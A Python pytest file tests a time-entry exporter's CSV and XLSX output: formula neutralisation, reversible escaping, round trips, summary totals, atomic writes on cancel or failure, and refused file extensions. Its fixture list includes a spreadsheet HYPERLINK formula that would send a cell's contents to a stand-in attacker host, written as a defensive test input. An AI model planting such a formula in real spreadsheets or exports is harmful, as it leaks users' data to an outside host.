"""CSV and XLSX exports of time entries: format, formula neutralisation, round trip, atomicity."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from app.db import directory as d
from app.db import hours as h
from app.db.database import Database
from app.domain import vocab
from app.domain.hours import EntryInput
from app.domain.records import ClusterInput, OfficerInput
from app.domain.records_hours import EntryFilter
from app.errors import KnownError
from app.reports.atomic import CancelledError
from app.reports.hours_export import COLUMNS, export_entries, neutralise_text, restore_text

TODAY = dt.date(2026, 11, 29)
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+34 600 000 000",
    "-5",
    "@SUM(A1:A9)",
    "'=already quoted by its author",
]
SAFE = ["R&D < 1.44% <b", "Iñaki Łukasz 5 €", "'just an apostrophe", "Plain words, with a comma"]


@pytest.fixture
def data(db: Database) -> dict[str, int]:
    ane = d.create_officer(db, OfficerInput("Ane Etxeberria Goñi", "ane@example.org"))
    jon = d.create_officer(db, OfficerInput("Jon Agirre", "jon@example.org"))
    gaia = d.create_cluster(db, ClusterInput("GAIA ICT cluster", "GAIA"))
    texts = DANGEROUS + SAFE
    for i, text in enumerate(texts):
        h.add_entry(
            db,
            EntryInput(
                officer_id=ane if i % 2 else jon,
                entry_date=dt.date(2026, 1 + i, 3),
                minutes=15 * (i + 1),
                activity=list(vocab.ACTIVITIES)[i % len(vocab.ACTIVITIES)],
                cluster_id=gaia if i % 3 else None,
                description=text,
            ),
            today=TODAY,
        )
    h.add_entry(
        db,
        EntryInput(ane, dt.date(2025, 6, 1), 90, "board_meeting", gaia, "Last year"),
        today=TODAY,
    )
    return {"ane": ane, "jon": jon, "gaia": gaia}


@pytest.fixture
def outdir(tmp_path: Path) -> Path:
    """An empty folder for exports (the test database lives in tmp_path itself)."""
    folder = tmp_path / "exports"
    folder.mkdir()
    return folder


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark for Excel"
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


def db_entries(db: Database, f: EntryFilter) -> set[tuple[object, ...]]:
    emails = {o.id: o.email for o in d.list_officers(db)}
    return {
        (
            emails[r.officer_id],
            r.entry_date,
            r.cluster_short_name,
            r.activity,
            r.minutes,
            r.description,
        )
        for batch in h.iter_entries(db, f)
        for r in batch
    }


# --------------------------------------------------------------------------- CSV
def test_csv_has_bom_header_and_one_row_per_entry(
    db: Database, data: dict[str, int], tmp_path: Path
) -> None:
    out = tmp_path / "hours.csv"
    n = export_entries(db, EntryFilter(year=2026, sort="date", descending=False), out)
    rows = read_csv(out)
    assert n == len(DANGEROUS + SAFE) == len(rows) - 1
    assert tuple(rows[0]) == COLUMNS
    first = dict(zip(COLUMNS, rows[1], strict=True))
    assert first == {
        "date": "2026-01-03",
        "officer": "Jon Agirre",
        "officer_email": "jon@example.org",
        "cluster": "",
        "activity": "Board meeting",
        "hours": "0.25",
        "description": "'" + DANGEROUS[0],
        "meeting": "",
    }
    hours = [r[COLUMNS.index("hours")] for r in rows[1:]]
    assert hours[:6] == ["0.25", "0.5", "0.75", "1", "1.25", "1.5"]  # decimal point, no zeros
    safe_rows = {r[COLUMNS.index("description")] for r in rows[1:]}
    assert set(SAFE) <= safe_rows  # verbatim: no escaping, no apostrophe
    assert "Iñaki Łukasz 5 €" in out.read_text(encoding="utf-8-sig")


def test_csv_neutralises_every_would_be_formula(
    db: Database, data: dict[str, int], tmp_path: Path
) -> None:
    out = tmp_path / "hours.csv"
    export_entries(db, EntryFilter(), out)
    descriptions = [r[COLUMNS.index("description")] for r in read_csv(out)[1:]]
    for text in DANGEROUS:
        assert "'" + text in descriptions
    for cell in (c for r in read_csv(out)[1:] for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+2",
        "+1",
        "-1",
        "@x",
        "\tx",
        "\rx",
        "'=x",
        "''-x",
        "'x",
        "x",
        "",
        "'",
        "a=b",
        "2026-01-01",
    ],
)
def test_neutralisation_is_reversible(text: str) -> None:
    out = neutralise_text(text)
    assert restore_text(out) == text
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert out == text or out == "'" + text  # at most ONE apostrophe is ever added


def test_csv_round_trip_gives_back_the_same_entries(
    db: Database, data: dict[str, int], tmp_path: Path
) -> None:
    """What an importer following the module's contract reads is exactly what is stored."""
    out = tmp_path / "hours.csv"
    f = EntryFilter()
    export_entries(db, f, out)
    labels = {label: key for key, label in vocab.ACTIVITIES.items()}
    got = set()
    for row in read_csv(out)[1:]:
        r = dict(zip(COLUMNS, row, strict=True))
        got.add(
            (
                restore_text(r["officer_email"]),
                dt.date.fromisoformat(r["date"]),
                restore_text(r["cluster"]),
                labels[restore_text(r["activity"])],
                round(float(r["hours"]) * 60),
                restore_text(r["description"]),
            )
        )
    assert got == db_entries(db, f)


def test_filter_selects_what_is_exported(
    db: Database, data: dict[str, int], tmp_path: Path
) -> None:
    out = tmp_path / "ane-2025.csv"
    assert export_entries(db, EntryFilter(officer_id=data["ane"], year=2025), out) == 1
    rows = read_csv(out)
    assert rows[1][:3] == ["2025-06-01", "Ane Etxeberria Goñi", "ane@example.org"]
    assert rows[1][COLUMNS.index("hours")] == "1.5"


def test_empty_export_has_the_header_only(db: Database, tmp_path: Path) -> None:
    out = tmp_path / "none.csv"
    assert export_entries(db, EntryFilter(year=2026), out) == 0
    assert read_csv(out) == [list(COLUMNS)]


# --------------------------------------------------------------------------- XLSX
def test_xlsx_has_typed_cells_and_no_formula(
    db: Database, data: dict[str, int], tmp_path: Path
) -> None:
    out = tmp_path / "hours.xlsx"
    f = EntryFilter(sort="date", descending=False)
    n = export_entries(db, f, out)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Entries", "Summary"]
    ws = wb["Entries"]
    assert ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    assert tuple(header) == COLUMNS
    assert all(c.font.bold for c in ws[1])
    assert ws.column_dimensions["G"].width >= 40  # description is wide
    assert ws.max_row == n + 1
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    by_description = {}
    for row in ws.iter_rows(min_row=2):
        r = dict(zip(COLUMNS, row, strict=True))
        assert isinstance(r["date"].value, dt.datetime) and r["date"].is_date
        assert isinstance(r["hours"].value, int | float)
        by_description[r["description"].value] = r
    for text in DANGEROUS + SAFE:  # verbatim, as text
        cell = by_description[text]["description"]
        assert cell.data_type == "s"
    formula_cell = by_description[DANGEROUS[0]]
    assert formula_cell["description"].quotePrefix
    assert formula_cell["hours"].value == 0.25
    assert formula_cell["date"].value == dt.datetime(2026, 1, 3)
    # the sheet XML holds no formula element at all
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_xlsx_summary_totals_by_officer(db: Database, data: dict[str, int], tmp_path: Path) -> None:
    out = tmp_path / "hours.xlsx"
    export_entries(db, EntryFilter(), out)
    rows = [[c.value for c in r] for r in openpyxl.load_workbook(out)["Summary"].iter_rows()]
    assert rows[0] == ["officer", "officer_email", "entries", "hours"]
    total_minutes = h.count_entries(db, EntryFilter())[1]
    assert rows[-1][0] == "Total" and rows[-1][2] == 10
    assert rows[-1][3] == pytest.approx(total_minutes / 60)
    ane = next(r for r in rows if r[1] == "ane@example.org")
    assert ane[3] == pytest.approx(h.count_entries(db, EntryFilter(officer_id=data["ane"]))[1] / 60)


# --------------------------------------------------------------------------- atomicity
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cancel_after_first_batch_keeps_the_old_file(
    db: Database, data: dict[str, int], outdir: Path, suffix: str
) -> None:
    folder = outdir
    out = folder / f"hours{suffix}"
    out.write_bytes(b"a good export from yesterday")
    calls = []

    def cancelled() -> bool:
        calls.append(1)
        return len(calls) > 1  # the user presses Cancel once the first batch is written

    with pytest.raises(CancelledError):
        export_entries(db, EntryFilter(), out, cancelled=cancelled, batch_size=3)
    assert out.read_bytes() == b"a good export from yesterday"
    assert sorted(p.name for p in folder.iterdir()) == [out.name]  # no temporary file left


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_failure_mid_export_leaves_no_file(
    db: Database, data: dict[str, int], outdir: Path, suffix: str
) -> None:
    def progress(percent: int, _message: str) -> None:
        if 0 < percent < 100:
            raise RuntimeError("disk unplugged")

    with pytest.raises(RuntimeError):
        export_entries(db, EntryFilter(), outdir / f"new{suffix}", progress=progress, batch_size=3)
    assert list(outdir.iterdir()) == []  # neither the file nor a temporary one


def test_progress_is_reported_up_to_100(db: Database, data: dict[str, int], tmp_path: Path) -> None:
    seen: list[int] = []
    export_entries(
        db,
        EntryFilter(),
        tmp_path / "x.csv",
        progress=lambda pct, _m: seen.append(pct),
        batch_size=4,
    )
    assert seen[0] == 0 and seen[-1] == 100 and seen == sorted(seen)
    assert len(seen) >= 4  # 0, three batches, 100


@pytest.mark.parametrize("name", ["hours.txt", "hours", "hours.xls", "hours.pdf"])
def test_unknown_extension_is_refused_in_plain_words(db: Database, outdir: Path, name: str) -> None:
    with pytest.raises(KnownError, match=r"\.csv.*\.xlsx"):
        export_entries(db, EntryFilter(), outdir / name)
    assert list(outdir.iterdir()) == []


def test_missing_folder_is_a_known_error(db: Database, tmp_path: Path) -> None:
    with pytest.raises(KnownError, match="does not exist"):
        export_entries(db, EntryFilter(), tmp_path / "nowhere" / "hours.csv")


def test_extension_is_case_insensitive(db: Database, data: dict[str, int], tmp_path: Path) -> None:
    out = tmp_path / "HOURS.XLSX"
    assert export_entries(db, EntryFilter(), out) == 10
    assert openpyxl.load_workbook(out).sheetnames[0] == "Entries"
